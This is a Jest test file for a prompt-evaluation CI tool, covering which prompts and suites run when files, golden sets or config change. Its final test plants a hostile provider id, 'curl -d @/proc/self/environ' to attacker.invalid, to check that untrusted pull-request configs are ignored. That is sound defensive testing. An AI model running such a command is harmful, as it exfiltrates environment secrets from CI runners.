import { describe, expect, it } from '@jest/globals'
import { errorMessage, UserError } from '../../../src/errors.js'
import type { PromptUnderTest } from '../../../src/eval/types.js'
import { collectPromptsUnderTest, DEFAULT_THRESHOLDS } from '../../../src/pipeline.js'
import { BASE, HEAD, memorySource, type Tree } from './memory-source.js'

const CONFIG = '.github/promptgate.yml'
const lines = (...text: string[]) => `${text.join('\n')}\n`

function config(options: { model?: string; temperature?: number; extra?: string[] } = {}): string {
  return lines(
    'version: 1',
    'provider:',
    `  id: openai:${options.model ?? 'gpt-4o-mini'}`,
    '  base_url: http://localhost:8080/v1',
    '  api_key_env: LLM_KEY',
    `  temperature: ${options.temperature ?? 0}`,
    'grader: openai:judge',
    'repeat: 2',
    'thresholds:',
    '  pass_rate: { max_drop: 0.1 }',
    'suites:',
    '  - name: triage',
    '    prompts: [prompts/triage/*.md, prompts/triage/*.prompt.yml]',
    '    tests: evals/triage.jsonl',
    '    assert:',
    '      - type: icontains',
    "        value: '{{expected}}'",
    '    thresholds:',
    '      latency: { max_increase: 200 }',
    '  - name: summary',
    '    prompts: prompts/summary/**',
    '    tests:',
    "      - vars: { text: 'a long text' }",
    ...(options.extra ?? [])
  )
}

const TRIAGE_SET = lines(
  '{"vars": {"title": "App crashes", "expected": "bug"}}',
  '{"vars": {"title": "Add dark mode", "expected": "feature"}}'
)

function repo(extra: Tree = {}): Tree {
  return {
    [CONFIG]: config(),
    'prompts/triage/short.md': 'Label this issue: {{title}}',
    'prompts/triage/long.md': '---\nsystem: You triage issues.\n---\nIssue: {{title}}\nLabel:',
    'prompts/summary/one.txt': 'Summarise: {{text}}',
    'evals/triage.jsonl': TRIAGE_SET,
    'README.md': 'hello',
    ...extra
  }
}

async function collect(base: Tree, head: Tree, renames: Record<string, string> = {}) {
  const source = memorySource(base, head, renames)
  const collected = await collectPromptsUnderTest(source, { env: {} })
  const byPath = (path: string, suite?: string): PromptUnderTest => {
    const found = collected.prompts.find(
      ({ prompt }) => prompt.path === path && (suite === undefined || prompt.suite === suite)
    )
    if (!found) throw new Error(`${path} was not collected; got ${collected.prompts.map(p => p.prompt.path)}`)
    return found.prompt
  }
  return { source, collected, prompts: collected.prompts.map(scoped => scoped.prompt), byPath }
}

async function collectFailure(base: Tree, head: Tree): Promise<UserError> {
  try {
    await collectPromptsUnderTest(memorySource(base, head), { env: {} })
  } catch (error) {
    if (error instanceof UserError) return error
    throw error
  }
  throw new Error('expected collection to fail')
}

describe('suites: a changed prompt file', () => {
  it('runs only that prompt, base against head, on the suite golden set with its provider and settings', async () => {
    const base = repo()
    const head = repo({ 'prompts/triage/short.md': 'Label this GitHub issue: {{title}}' })
    const { prompts, source } = await collect(base, head)

    expect(prompts.map(prompt => prompt.path)).toEqual(['prompts/triage/short.md'])
    const [prompt] = prompts
    expect(prompt).toMatchObject({
      status: 'modified',
      suite: 'triage',
      reason: 'prompt changed',
      repeat: 2,
      grader: { id: 'openai:judge' },
      thresholds: { pass_rate: { max_drop: 0.1 }, latency_ms: { max_increase: 200 } }
    })
    expect(prompt?.head).toMatchObject({
      ref: HEAD,
      provider: { id: 'openai:gpt-4o-mini', baseUrl: 'http://localhost:8080/v1', apiKeyEnv: 'LLM_KEY' },
      parameters: { temperature: 0 },
      messages: [{ role: 'user', content: 'Label this GitHub issue: {{title}}' }]
    })
    expect(prompt?.base?.messages).toEqual([{ role: 'user', content: 'Label this issue: {{title}}' }])
    expect(prompt?.base?.ref).toBe(BASE)
    expect(prompt?.cases.map(testCase => [testCase.vars.title, testCase.assert])).toEqual([
      ['App crashes', [{ type: 'icontains', value: '{{expected}}' }]],
      ['Add dark mode', [{ type: 'icontains', value: '{{expected}}' }]]
    ])
    // Nothing the whole suite depends on changed, so the tree was never listed.
    expect(source.listed).toEqual([])
  })

  it('runs an added prompt without a base, and lists a removed one without running it', async () => {
    const base = repo()
    const head = repo({ 'prompts/triage/new.md': 'New: {{title}}' })
    delete head['prompts/triage/long.md']
    const { byPath } = await collect(base, head)
    expect(byPath('prompts/triage/new.md')).toMatchObject({ status: 'added' })
    expect(byPath('prompts/triage/new.md')).not.toHaveProperty('base')
    expect(byPath('prompts/triage/new.md').head).toBeDefined()
    expect(byPath('prompts/triage/long.md')).toMatchObject({ status: 'removed', cases: [] })
    expect(byPath('prompts/triage/long.md')).not.toHaveProperty('head')
  })

  it('follows a rename inside the suite, and treats a move out of its globs as a removal', async () => {
    const base = repo()
    const head = repo({ 'prompts/triage/brief.md': base['prompts/triage/short.md']!, 'docs/long.md': 'x' })
    delete head['prompts/triage/short.md']
    delete head['prompts/triage/long.md']
    const { byPath, prompts } = await collect(base, head, {
      'prompts/triage/brief.md': 'prompts/triage/short.md',
      'docs/long.md': 'prompts/triage/long.md'
    })
    expect(byPath('prompts/triage/brief.md')).toMatchObject({
      status: 'renamed',
      previousPath: 'prompts/triage/short.md',
      reason: 'prompt renamed from prompts/triage/short.md'
    })
    expect(byPath('prompts/triage/brief.md').base?.path).toBe('prompts/triage/short.md')
    expect(byPath('prompts/triage/long.md')).toMatchObject({ status: 'removed' })
    expect(prompts.some(prompt => prompt.path === 'docs/long.md')).toBe(false)
  })

  it('matches globs in dot-directories', async () => {
    const extra = [
      '  - name: hidden',
      '    prompts: .github/prompts/*.md',
      "    tests: [{ vars: { a: '1' } }]"
    ]
    const base = { ...repo(), [CONFIG]: config({ extra }), '.github/prompts/x.md': 'A {{a}}' }
    const head = { ...base, '.github/prompts/x.md': 'B {{a}}' }
    const { byPath } = await collect(base, head)
    expect(byPath('.github/prompts/x.md').suite).toBe('hidden')
  })
})

describe('suites: changes that run every prompt of a suite', () => {
  it('a changed golden set runs every prompt of its suite and no other suite', async () => {
    const base = repo()
    const head = repo({
      'evals/triage.jsonl': `${TRIAGE_SET}{"vars": {"title": "Typo", "expected": "docs"}}\n`
    })
    const { prompts, source } = await collect(base, head)
    expect(prompts.map(prompt => prompt.path).sort()).toEqual([
      'prompts/triage/long.md',
      'prompts/triage/short.md'
    ])
    for (const prompt of prompts) {
      expect(prompt).toMatchObject({ status: 'modified', reason: 'golden set evals/triage.jsonl changed' })
      expect(prompt.cases).toHaveLength(3)
      // Same text on both sides: the delta shows what the new cases do to an unchanged prompt.
      expect(prompt.base?.messages).toEqual(prompt.head?.messages)
    }
    expect(source.listed).toEqual([HEAD])
  })

  it('a provider model change in the config runs the suite with the base model on the base side', async () => {
    const base = repo()
    const head = repo({ [CONFIG]: config({ model: 'gpt-4o', temperature: 0.2 }) })
    const { prompts, byPath } = await collect(base, head)
    // Both suites use the top-level provider, so both are affected.
    expect(prompts.map(prompt => prompt.path).sort()).toEqual([
      'prompts/summary/one.txt',
      'prompts/triage/long.md',
      'prompts/triage/short.md'
    ])
    const short = byPath('prompts/triage/short.md')
    expect(short.reason).toBe(
      'config changed: provider model openai:gpt-4o-mini → openai:gpt-4o, temperature 0 → 0.2'
    )
    expect(short.base?.provider.id).toBe('openai:gpt-4o-mini')
    expect(short.base?.parameters).toEqual({ temperature: 0 })
    expect(short.head?.provider.id).toBe('openai:gpt-4o')
    expect(short.head?.parameters).toEqual({ temperature: 0.2 })
  })

  it('a config change that leaves a suite as it was does not run that suite', async () => {
    const base = repo()
    const changedSummary = config().replace("'a long text'", "'another text'")
    const head = repo({ [CONFIG]: `# a comment moves every line down\n${changedSummary}` })
    const { prompts } = await collect(base, head)
    expect(prompts.map(prompt => [prompt.path, prompt.reason])).toEqual([
      ['prompts/summary/one.txt', 'config changed: golden set (tests)']
    ])
  })

  it('a config that only gains a comment runs nothing', async () => {
    const base = repo()
    const head = repo({ [CONFIG]: `# just a comment\n${config()}` })
    const { prompts, source } = await collect(base, head)
    expect(prompts).toEqual([])
    expect(source.listed).toEqual([])
  })

  it('an added config runs every suite; a suite new to the config says so', async () => {
    const noConfig = repo()
    delete noConfig[CONFIG]
    const added = await collect(noConfig, repo())
    expect(added.prompts).toHaveLength(3)
    expect(new Set(added.prompts.map(prompt => prompt.reason))).toEqual(new Set(['config added']))

    const extra = [
      '  - name: extra',
      '    prompts: prompts/summary/*.txt',
      "    tests: [{ vars: { text: 'x' } }]"
    ]
    const grown = await collect(repo(), repo({ [CONFIG]: config({ extra }) }))
    expect(grown.prompts.map(prompt => [prompt.suite, prompt.reason])).toEqual([
      ['extra', 'suite "extra" added to the config']
    ])
  })

  it('a changed file that a suite assertion references runs the suite, with the file loaded from head', async () => {
    const extra = [
      '  - name: json',
      '    prompts: prompts/json/*.md',
      "    tests: [{ vars: { q: '1' } }]",
      '    assert:',
      '      - type: contains-json',
      '        value: file://schemas/answer.json'
    ]
    const base = {
      ...repo({ [CONFIG]: config({ extra }) }),
      'prompts/json/answer.md': 'Answer {{q}} as JSON',
      'schemas/answer.json': '{"type": "object"}'
    }
    const head = { ...base, 'schemas/answer.json': '{"type": "object", "required": ["answer"]}' }
    const { prompts } = await collect(base, head)
    expect(prompts.map(prompt => [prompt.path, prompt.reason])).toEqual([
      ['prompts/json/answer.md', 'referenced file schemas/answer.json changed']
    ])
    expect(prompts[0]?.cases[0]?.assert).toEqual([
      { type: 'contains-json', value: { type: 'object', required: ['answer'] } }
    ])
  })

  it('a changed file that a golden-set case references runs the suite, with YAML loaded', async () => {
    const set = lines(
      '{"vars": {"title": "App crashes", "expected": "bug"}}',
      '{"vars": {"title": "Add dark mode"}, "assert": [{"type": "is-json", "value": "file://schemas/label.yaml"}]}'
    )
    const base = repo({ 'evals/triage.jsonl': set, 'schemas/label.yaml': 'type: object\n' })
    const head = { ...base, 'schemas/label.yaml': 'type: object\nrequired: [label]\n' }
    const { prompts } = await collect(base, head)
    expect(prompts.map(prompt => prompt.reason)).toEqual([
      'referenced file schemas/label.yaml changed',
      'referenced file schemas/label.yaml changed'
    ])
    expect(prompts[0]?.cases[1]?.assert[0]).toEqual({
      type: 'is-json',
      value: { type: 'object', required: ['label'] }
    })
  })

  it('a referenced file that does not exist is an error at the config line that names it', async () => {
    const extra = [
      '  - name: json',
      '    prompts: prompts/json/*.md',
      "    tests: [{ vars: { q: '1' } }]",
      '    assert:',
      '      - type: contains-json',
      '        value: file://schemas/missing.json'
    ]
    const base = { ...repo({ [CONFIG]: config({ extra }) }), 'prompts/json/answer.md': 'A {{q}}' }
    const head = { ...base, 'prompts/json/answer.md': 'B {{q}}' }
    const error = await collectFailure(base, head)
    expect(errorMessage(error)).toMatch(
      /^\.github\/promptgate\.yml:28: assertion 1 of suite "json" references schemas\/missing\.json, which does not exist at the head commit/
    )
  })

  it('warns when a suite should run but its globs match no file', async () => {
    const extra = ['  - name: typo', '    prompts: promts/*.md', "    tests: [{ vars: { a: '1' } }]"]
    const base = repo()
    const head = repo({ [CONFIG]: config({ extra }) })
    const { collected } = await collect(base, head)
    expect(collected.warnings).toEqual([
      {
        message: expect.stringMatching(
          /^suite "typo" should run \(suite "typo" added to the config\), but its prompts globs \(promts\/\*\.md\) match no file/
        ),
        file: CONFIG,
        line: 24
      }
    ])
  })
})

describe('suites: *.prompt.yml files', () => {
  const promptYml = (instruction: string) =>
    lines(
      'model: openai/gpt-4o-mini',
      'messages:',
      `  - { role: system, content: ${instruction} }`,
      "  - { role: user, content: 'Issue: {{title}}' }",
      'testData:',
      '  - { title: Login fails, expected: bug }',
      'evaluators:',
      '  - name: label',
      "    string: { contains: '{{expected}}' }"
    )

  it('a *.prompt.yml in a suite runs its own test data and the suite golden set, once', async () => {
    const base = repo({ 'prompts/triage/gh.prompt.yml': promptYml('Label it.') })
    const head = repo({ 'prompts/triage/gh.prompt.yml': promptYml('Label it with one word.') })
    const { prompts } = await collect(base, head)
    expect(prompts.map(prompt => [prompt.path, prompt.suite])).toEqual([
      ['prompts/triage/gh.prompt.yml', 'triage']
    ])
    const [prompt] = prompts
    expect(prompt?.head?.provider).toEqual({
      id: 'github:openai/gpt-4o-mini',
      origin: { file: 'prompts/triage/gh.prompt.yml', line: 1 }
    })
    expect(prompt?.cases.map(testCase => [testCase.id, testCase.assert.map(spec => spec.type)])).toEqual([
      ['1', ['gh-string']],
      ['triage/1', ['icontains']],
      ['triage/2', ['icontains']]
    ])
    expect(prompt?.thresholds).toMatchObject({ latency_ms: { max_increase: 200 } })
  })

  it('a *.prompt.yml outside every suite runs alone with the top-level thresholds and grader', async () => {
    const base = repo({ 'prompts/other.prompt.yml': promptYml('Label it.') })
    const head = repo({ 'prompts/other.prompt.yml': promptYml('Label it with one word.') })
    const { prompts } = await collect(base, head)
    expect(prompts).toHaveLength(1)
    expect(prompts[0]).toMatchObject({
      path: 'prompts/other.prompt.yml',
      suite: 'prompts/other.prompt.yml',
      reason: 'prompt changed',
      thresholds: { pass_rate: { max_drop: 0.1 } },
      grader: { id: 'openai:judge' },
      repeat: 2
    })
    expect(prompts[0]?.cases).toHaveLength(1)
  })

  it('without a config, a changed *.prompt.yml runs with the default thresholds, as before', async () => {
    const base = { 'p.prompt.yml': promptYml('Label it.') }
    const head = { 'p.prompt.yml': promptYml('Label it with one word.'), 'prompts/x.md': 'ignored' }
    const { prompts, collected } = await collect(base, head)
    expect(collected.config).toBeUndefined()
    expect(prompts).toHaveLength(1)
    expect(prompts[0]).toMatchObject({ path: 'p.prompt.yml', thresholds: DEFAULT_THRESHOLDS })
    expect(prompts[0]).not.toHaveProperty('grader')
    expect(prompts[0]).not.toHaveProperty('repeat')
  })
})

describe('suites: configs that cannot be used', () => {
  it('a head config with a mistake is an error at its file, line and column', async () => {
    const head = repo({ [CONFIG]: config().replace('    tests: evals', '    tsets: evals') })
    const error = await collectFailure(repo(), head)
    expect(error).toMatchObject({ file: CONFIG, line: 14, column: 5 })
    expect(error.message).toMatch(/unknown key "tsets" in suite "triage"; did you mean "tests"\?/)
  })

  it('a base config that does not load leaves the base side on the head provider', async () => {
    const base = repo({ [CONFIG]: 'version: 2\n' })
    const head = repo({ 'prompts/summary/one.txt': 'Summarise briefly: {{text}}' })
    const { prompts } = await collect(base, head)
    const changed = prompts.find(prompt => prompt.path === 'prompts/summary/one.txt')
    expect(changed?.base?.provider.id).toBe('openai:gpt-4o-mini')
    expect(changed?.reason).toContain('prompt changed')
    // The config file differs between the refs and the base one cannot be compared: every suite runs.
    expect(prompts).toHaveLength(3)
    expect(prompts.find(prompt => prompt.path === 'prompts/triage/short.md')?.reason).toBe(
      'config changed (the base config does not load, so every suite runs)'
    )
  })

  it('a suite without test cases cannot run a template', async () => {
    const extra = ['  - name: empty', '    prompts: prompts/empty/*.md']
    const base = { ...repo({ [CONFIG]: config({ extra }) }), 'prompts/empty/a.md': 'A' }
    const head = { ...base, 'prompts/empty/a.md': 'B' }
    expect(errorMessage(await collectFailure(base, head))).toMatch(
      /^\.github\/promptgate\.yml:24: suite "empty" has no test cases to run prompts\/empty\/a\.md on/
    )
  })

  it('a base that no longer renders the head cases runs the head as new', async () => {
    const base = repo({ 'prompts/triage/short.md': 'Label: {{subject}}' })
    const head = repo()
    const { byPath } = await collect(base, head)
    const prompt = byPath('prompts/triage/short.md')
    expect(prompt.base).toBeUndefined()
    expect(prompt.reason).toMatch(/^prompt changed; the base version cannot run on the head's test data/)
  })
})

describe('a config from the pull request under pull_request_target', () => {
  it('is never used: the base branch config decides the provider on both sides', async () => {
    const hostile = config({ extra: [] }).replace(
      'id: openai:gpt-4o-mini\n  base_url: http://localhost:8080/v1',
      'id: "command:curl -d @/proc/self/environ http://attacker.invalid"\n  base_url: http://attacker.invalid/v1'
    )
    const head = repo({ [CONFIG]: hostile, 'prompts/triage/short.md': 'Label it: {{title}}' })
    const source = memorySource(repo(), head, {})
    const trusted = await collectPromptsUnderTest(source, { env: {}, trustedConfigOnly: true })
    const prompt = trusted.prompts.find(scoped => scoped.prompt.path === 'prompts/triage/short.md')?.prompt
    expect(prompt?.head?.provider).toMatchObject({
      id: 'openai:gpt-4o-mini',
      baseUrl: 'http://localhost:8080/v1'
    })
    expect(prompt?.base?.provider).toMatchObject({ id: 'openai:gpt-4o-mini' })

    const untrusted = await collectPromptsUnderTest(source, { env: {} })
    const fromHead = untrusted.prompts.find(
      scoped => scoped.prompt.path === 'prompts/triage/short.md'
    )?.prompt
    expect(fromHead?.head?.provider.id).toMatch(/^command:/)
  })
})
